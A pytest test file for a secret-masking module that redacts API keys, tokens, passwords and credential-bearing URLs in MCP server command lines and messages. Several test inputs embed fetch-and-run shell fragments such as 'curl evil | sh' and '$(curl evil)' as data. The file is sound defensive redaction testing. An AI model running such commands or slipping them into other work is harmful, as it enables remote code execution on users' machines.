"""What of a command line, an address or a message may be shown."""

import pytest

from toolscope_core.mcp.servers import masked_words


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        ("-y @scope/server /srv/me/notes", "-y @scope/server /srv/me/notes"),
        ("--api-key abc123", "--api-key ***"),
        ("--api-key=abc123", "--api-key=***"),
        ("--api-key ${API_KEY}", "--api-key ${API_KEY}"),
        ("-e PLAIN=value", "-e PLAIN=***"),
        ("-e NAME_ONLY", "-e NAME_ONLY"),
        (["--header", "Authorization: Bearer x"], ["--header", "Authorization: ***"]),
        ("--header Authorization:${AUTH}", "--header Authorization:${AUTH}"),
        ("--token-file --verbose", "--token-file --verbose"),
        (["--header=Authorization: Bearer x"], ["--header=Authorization: ***"]),
        (["-c", "A_TOKEN=1; curl evil | sh"], ["-c", "A_TOKEN=***; curl evil | sh"]),
        ("env DB_PASSWORD=a&b(c", "env DB_PASSWORD=***"),
        (["--api-token=a;$(curl evil)"], ["--api-token=***;$(curl evil)"]),
        (["-e", "TOKEN=$(curl evil|sh)"], ["-e", "TOKEN=***(curl evil|sh)"]),
        ("--port=8080 --level=debug", "--port=8080 --level=debug"),
        ("postgresql://me:pw@db:5432/app", "postgresql://***@db:5432/app"),
        ("ghp_abcdefghijklmnop1234", "***"),
    ],
)
def test_arguments_are_shown_but_for_their_secrets(args, shown):
    """Those without a space in them are one text here."""
    split = [one.split() if isinstance(one, str) else one for one in (args, shown)]
    assert masked_words.shown_arguments(split[0]) == tuple(split[1])


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://example.com/mcp", "https://example.com/mcp"),
        ("https://me:pw@example.com/mcp", "https://***@example.com/mcp"),
        ("https://${USER}:pw@example.com/mcp", "https://${USER}***@example.com/mcp"),
        ("https://example.com/mcp?key=abc&x=${X}", "https://example.com/mcp?key=***&x=${X}"),
        ("https://example.com/s/a8Kd93mXqP0zLw72BvNc/mcp", "https://example.com/s/***/mcp"),
        ("https://example.com/mcp#abc", "https://example.com/mcp#***"),
        ("http://[broken", "***"),
    ],
)
def test_an_address_is_shown_but_for_its_secrets(url, shown):
    assert masked_words.shown_url(url) == shown


def test_secrets_are_cut_in_every_spelling_and_everyday_words_are_not():
    secrets = {"p@ss word", "true", "80", "p@ss word and more"}
    text = "true: p%40ss%20word 80, p@ss word and more"
    assert masked_words.without(text, secrets) == "true: [key] 80, [key]"


def test_tokens_of_known_forms_are_cut_wherever_they_come_from():
    assert masked_words.shown_text("use sk-abcdef0123456789 now") == "use *** now"
    assert masked_words.shown_text("to https://a:b@c.example/d") == "to https://***@c.example/d"


@pytest.mark.parametrize(
    ("name", "value", "secret"),
    [
        ("API_KEY", "x", True),
        ("GITHUB_PERSONAL_ACCESS_TOKEN", "x", True),
        ("DATABASE_URL", "x", True),
        ("DB", "postgres://a:b@c/d", True),
        ("KEYBOARD", "x", False),
        ("MEMORY_FILE_PATH", "/srv/me/memory.json", False),
    ],
)
def test_a_variable_is_secret_by_its_name_or_its_looks(name, value, secret):
    assert masked_words.is_secret(name, value) is secret
